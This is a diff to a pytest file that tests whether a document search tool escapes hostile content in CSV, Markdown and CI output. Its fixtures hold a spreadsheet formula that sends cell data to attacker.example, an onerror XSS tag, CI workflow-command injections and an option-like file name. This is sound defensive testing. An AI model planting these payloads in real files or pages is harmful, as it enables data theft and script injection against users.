@@ -18,10 +18,12 @@ from support.corpus import write_markdown, write_user
 
 TENANT = "outco"
 FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?q="&A1,"Open invoice")'
-HOSTILE_BODY = (
-    "@SUM(1+1) walrus ledger figures.\n\n"
+HOSTILE_HTML = (
     '<img src=x onerror="alert(1)"> <details open><summary>walrus</summary>hidden</details> '
-    "<a href='http://attacker.example'>walrus login</a>\n\n"
+    "<a href='http://attacker.example'>walrus login</a>"
+)
+HOSTILE_BODY = (
+    "@SUM(1+1) walrus ledger figures.\n\n" + HOSTILE_HTML + "\n\n"
     "::add-mask::walrus-secret\n::error file=app.py::walrus failure injected\n\n"
     "A legacy command in a line: ##[error]walrus legacy injected\n"
 )
@@ -34,15 +36,17 @@ def indexed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]
     write_markdown(folder / "ledger.md", {"id": "ledger", "title": FORMULA_TITLE}, "## -2+3 totals\n\n" + HOSTILE_BODY)
     write_markdown(folder / "--version.md", {"id": "dash"}, "The walrus dash file.\n")
     write_markdown(folder / "my walrus notes.md", {"id": "spaced"}, "Walrus notes with spaces in the name.\n")
+    # A Markdown page's HTML is read as its text; a plain text file's passages hold it as written.
+    (folder / "narwhal.txt").write_text("Narwhal tusks: " + HOSTILE_HTML.replace("walrus", "narwhal") + "\n")
     index = tmp / "index"
     proc = cli("ingest", folder, "--tenant", TENANT, "--index", index, "--acl", "everyone")
     assert proc.returncode == 0, proc.stderr
     return folder, index, write_user(tmp / "reader.json", "reader", TENANT, ["everyone"])
 
 
-def _search(indexed: tuple[Path, Path, Path], *args: object, env: dict[str, str] | None = None):  # type: ignore[no-untyped-def]
+def _search(indexed: tuple[Path, Path, Path], *args: object, env: dict[str, str] | None = None, query: str = "walrus"):  # type: ignore[no-untyped-def]
     _, index, user = indexed
-    proc = cli("search", "walrus", "--as", user, "--index", index, *args, env=env)
+    proc = cli("search", query, "--as", user, "--index", index, *args, env=env)
     assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
     return proc
 
@@ -63,9 +67,13 @@ def test_csv_cells_that_a_spreadsheet_would_run_begin_with_a_quote(indexed) -> N
 
 @pytest.mark.slow
 def test_markdown_results_show_html_as_text(indexed) -> None:  # type: ignore[no-untyped-def]
-    out = _search(indexed, "--format", "md").stdout
+    out = _search(indexed, "--format", "md", query="narwhal").stdout
     assert not re.search(r"<\s*(img|details|a|summary)\b", out, re.IGNORECASE), out
     assert "&lt;img src=x" in out or "&lt;details" in out or "&lt;a href" in out, out
+    # In a Markdown page the tags are markup: the passage holds what the page shows.
+    out = _search(indexed, "--format", "md").stdout
+    assert not re.search(r"<\s*(img|details|a|summary)\b|&lt;", out, re.IGNORECASE), out
+    assert "**walrus** login" in out, out
 
 
 def test_eval_summary_escapes_html_and_cuts_before_escaping() -> None:
